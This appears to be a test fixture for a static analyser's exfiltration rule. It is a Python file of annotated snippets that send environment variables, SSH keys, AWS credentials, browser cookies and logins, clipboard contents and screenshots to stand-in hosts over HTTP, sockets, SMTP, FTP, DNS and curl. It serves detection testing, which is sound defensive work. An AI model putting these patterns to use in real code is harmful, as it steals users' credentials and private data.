"""Secrets that leave, by the ways that they take."""

import base64
import ftplib
import glob
import http.client
import json
import os
import shutil
import smtplib
import socket
import subprocess
import urllib.parse
import urllib.request
from pathlib import Path

import aiohttp
import browser_cookie3
import pyperclip
import requests
from PIL import ImageGrab

requests.post("https://collect.example.invalid/e", json=dict(os.environ))
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ exfiltration: error

requests.post("https://collect.example.invalid/e", data=json.dumps({name: value for name, value in os.environ.items()}))
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ exfiltration: error

requests.get("https://collect.example.invalid/e", params={"d": base64.b64encode(str(os.environ).encode())})
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ exfiltration: error

urllib.request.urlopen("https://collect.example.invalid/?d=" + urllib.parse.quote(json.dumps({**os.environ})))
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ exfiltration: error

with open(os.path.expanduser("~/.ssh/id_rsa")) as key:
    requests.post("https://collect.example.invalid/k", files={"key": key})
#   ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ exfiltration: error

requests.post("https://collect.example.invalid/k", data=(Path.home() / ".aws" / "credentials").read_text())
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ exfiltration: error

requests.post("https://discord.com/api/webhooks/0/inert", json={"content": open("/etc/passwd").read()})
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ exfiltration: error

connection = socket.create_connection(("192.0.2.7", 8080))
connection.sendall(open(os.path.join(os.environ["HOME"], ".npmrc"), "rb").read())
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ exfiltration: error

client = http.client.HTTPSConnection("collect.example.invalid")
client.request("POST", "/e", json.dumps(dict(os.environ)))
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ exfiltration: error

requests.post("https://collect.example.invalid/c", data=pyperclip.paste())
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ exfiltration: error

requests.post("https://collect.example.invalid/b", json={"cookies": [cookie.value for cookie in browser_cookie3.chrome()]})
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ exfiltration: error

os.system("curl -X POST -d @$HOME/.aws/credentials https://collect.example.invalid/a")
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ exfiltration: error

subprocess.run("env | curl -s -d @- https://collect.example.invalid/a", shell=True)
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ exfiltration: error

requests.post(
#<^^^^^^^^^^^^ exfiltration: error
    "https://collect.example.invalid/t",
    json={"aws": os.environ.get("AWS_SECRET_ACCESS_KEY"), "npm": os.getenv("NPM_TOKEN")},
)

requests.post("https://api.telegram.org/bot0:inert/sendMessage", data={"chat_id": 1, "text": socket.gethostname()})
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ exfiltration: error


def report(address):
    picture = ImageGrab.grab()
    requests.post(address, files={"screen": picture})
#   ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ exfiltration: warning


async def telemetry(session: aiohttp.ClientSession):
    async with aiohttp.ClientSession() as client:
        await client.post("https://collect.example.invalid/e", json={"environment": dict(os.environ)})
#             ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ exfiltration: warning


def mail():
    server = smtplib.SMTP("mail.example.invalid")
    server.sendmail("a@example.invalid", "b@example.invalid", str(dict(os.environ)))
#   ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ exfiltration: warning


def upload():
    server = ftplib.FTP("files.example.invalid")
    with open(os.path.expanduser("~/.config/google-chrome/Default/Login Data"), "rb") as store:
        server.storbinary("STOR data", store)
#       ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ exfiltration: warning


def lookup():
    secret = base64.b32encode(open(os.path.expanduser("~/.pypirc"), "rb").read()).decode()
    socket.gethostbyname(secret[:60] + ".d.example.invalid")
#   ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ exfiltration: warning


def collect():
    information = {"host": socket.gethostname()}
    information.update(os.environ)
    requests.post("https://collect.example.invalid/e", json=information)
#   ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ exfiltration: warning


def lines():
    text = ""
    for name, value in os.environ.items():
        text += name + "=" + value + "\n"
    requests.post("https://collect.example.invalid/e", data=text)
#   ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ exfiltration: warning


def tokens():
    found = {name: value for name, value in os.environ.items() if "TOKEN" in name}
    requests.post("https://collect.example.invalid/e", json=found)
#   ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ exfiltration: warning


def archive():
    shutil.make_archive("/tmp/keys", "zip", os.path.expanduser("~/.ssh"))
    requests.post("https://collect.example.invalid/k", files={"keys": open("/tmp/keys.zip", "rb")})
#   ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ todo: exfiltration
